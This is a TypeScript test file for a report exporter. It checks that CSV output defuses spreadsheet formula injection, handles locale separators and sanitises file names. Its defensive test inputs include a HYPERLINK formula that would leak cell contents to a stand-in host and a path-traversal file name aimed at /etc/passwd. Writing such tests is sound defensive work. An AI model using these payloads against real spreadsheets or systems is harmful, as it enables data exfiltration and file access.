import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { noCounts } from '../../src/reference/counters.ts';
import { type CsvForm, csvFileName, separators } from '../../src/reference/csv.ts';
import { dayOf } from '../../src/statistics/days.ts';
import type { StatisticsColumn } from '../../src/statistics/statistics-columns.ts';
import { csvFormat, statisticsFormats } from '../../src/statistics/statistics-text.ts';

/** A report of one row with one column, as each format writes it. */
async function written(format: 'csv' | 'json', value: string | number): Promise<string> {
  const column: StatisticsColumn = { name: 'A', help: '', type: 'string', of: () => value };
  async function* rows() {
    yield [{ day: dayOf(0), subId: '', counts: noCounts }];
  }
  const { write } = statisticsFormats.get(format) ?? assert.fail(format);
  return (await Array.fromAsync(write([column], rows()))).join('');
}

describe('a value in a report', () => {
  const cases: readonly (readonly [what: string, value: string | number, csv: string])[] = [
    ['a text', 'a', 'a'],
    ['no text', '', ''],
    ['a formula', '=1+1', "'=1+1"],
    [
      'a formula that calls',
      '=HYPERLINK("http://a.example/?"&A1,"x")',
      '"\'=HYPERLINK(""http://a.example/?""&A1,""x"")"',
    ],
    ['a plus', '+49', "'+49"],
    ['a minus, which in a text is no number', '-1', "'-1"],
    ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\ta', '"\'\ta"'],
    ['a carriage return', '\ra', '"\'\ra"'],
    ['a formula after a space', ' =1', "' =1"],
    ['a formula after spaces of other widths', '\u00a0\u2003\u3000@a', "'\u00a0\u2003\u3000@a"],
    ['a formula after what nobody sees', '\ufeff\u200b\u202e=1', "'\ufeff\u200b\u202e=1"],
    ['signs of full width', '\uff1d1', "'\uff1d1"],
    ['a plus of full width', '\uff0b1', "'\uff0b1"],
    ['a minus of full width', ' \uff0d1', "' \uff0d1"],
    ['an at sign of full width', '\uff20a', "'\uff20a"],
    ['a sign of small width', '\ufe661', "'\ufe661"],
    ['a minus of mathematics', '\u22121', "'\u22121"],
    ['a formula behind a semicolon, which separates in other countries', 'a; =1', '"a;\' =1"'],
    ['a formula behind a tab', 'a\t=1', '"a\t\'=1"'],
    ['a formula behind a comma', 'a,=1', '"a,\'=1"'],
    ['a formula behind an apostrophe', "'=1", "''=1"],
    ['a formula in a second line', 'a\n=1', '"a\n\'=1"'],
    ['space, and no formula', ' a', ' a'],
    ['the same signs further on', 'a=b+c-d@e', 'a=b+c-d@e'],
    ['an apostrophe', "'a", "'a"],
    ['a day', '2026-09-01', '2026-09-01'],
    ['a number', 1.5, '1.5'],
    ['a number below 0', -1, '-1'],
    ['a small number', 1e-9, '0.000000001'],
  ];
  for (const [what, value, csv] of cases) {
    test(`${what}: spreadsheets of CSV run nothing, and JSON has it as it is`, async () => {
      assert.equal(await written('csv', value), `A\r\n${csv}\r\n`);
      assert.deepEqual(JSON.parse(await written('json', value)), [{ A: value }]);
    });
  }
});

describe('CSV for a spreadsheet of another country', () => {
  const cases: readonly (readonly [form: CsvForm, value: string | number | null, cell: string])[] = [
    [{ Separator: 'Semicolon', Decimal: 'Comma' }, 1.5, '1,5'],
    [{ Separator: 'Semicolon', Decimal: 'Comma' }, -1e-9, '-0,000000001'],
    [{ Separator: 'Semicolon', Decimal: 'Comma' }, 1200, '1200'],
    [{ Separator: 'Semicolon', Decimal: 'Comma' }, null, ''],
    [{ Separator: 'Semicolon' }, 1.5, '1.5'],
    [{ Separator: 'Semicolon' }, 'a,b', '"a,b"'],
    [{ Separator: 'Semicolon' }, 'a;b', '"a;b"'],
    [{ Separator: 'Semicolon' }, '=1+1', "'=1+1"],
    [{ Separator: 'Semicolon' }, 'a;=1', '"a;\'=1"'],
    [{ Separator: 'Semicolon' }, 'a, =1', '"a,\' =1"'],
    [{ Separator: 'Tab', Decimal: 'Comma' }, 1.5, '1,5'],
    [{ Separator: 'Tab' }, 'a,=1', '"a,\'=1"'],
    [{ Separator: 'Tab' }, 'a\tb', '"a\tb"'],
    [{ Decimal: 'Comma' }, 1.5, '"1,5"'],
    [{ Separator: '', Decimal: '' }, 1.5, '1.5'],
  ]; // biome-ignore format: a table
  for (const [form, value, cell] of cases) {
    test(`${JSON.stringify(form)} writes ${JSON.stringify(value)} as ${JSON.stringify(cell)}`, async () => {
      async function* rows() {
        yield [value];
      }
      const columns = [
        { name: 'A', of: () => value },
        { name: 'B', of: () => 'b' },
      ];
      const { Separator } = form;
      const between = separators[Separator || 'Comma'];
      const text = (await Array.fromAsync(csvFormat(form, '\uFEFF').write(columns, rows()))).join('');
      assert.equal(text, `\uFEFFA${between}B\r\n${cell}${between}b\r\n`);
    });
  }
});

describe('the name of a file', () => {
  const cases: readonly (readonly [name: string, file: string])[] = [
    ['Überfeed', 'Überfeed_2026-10-01_2026-10-31.csv'],
    ['../../etc/passwd\r\n"x"', 'etc-passwd-x_2026-10-01_2026-10-31.csv'],
    ['日報', '日報_2026-10-01_2026-10-31.csv'],
    ['…', '2026-10-01_2026-10-31.csv'],
    ['x'.repeat(500), `${'x'.repeat(80)}_2026-10-01_2026-10-31.csv`],
  ];
  for (const [name, file] of cases) {
    test(`of ${JSON.stringify(name.slice(0, 30))}`, () =>
      assert.equal(csvFileName(name, '2026-10-01', '2026-10-31'), file));
  }
});
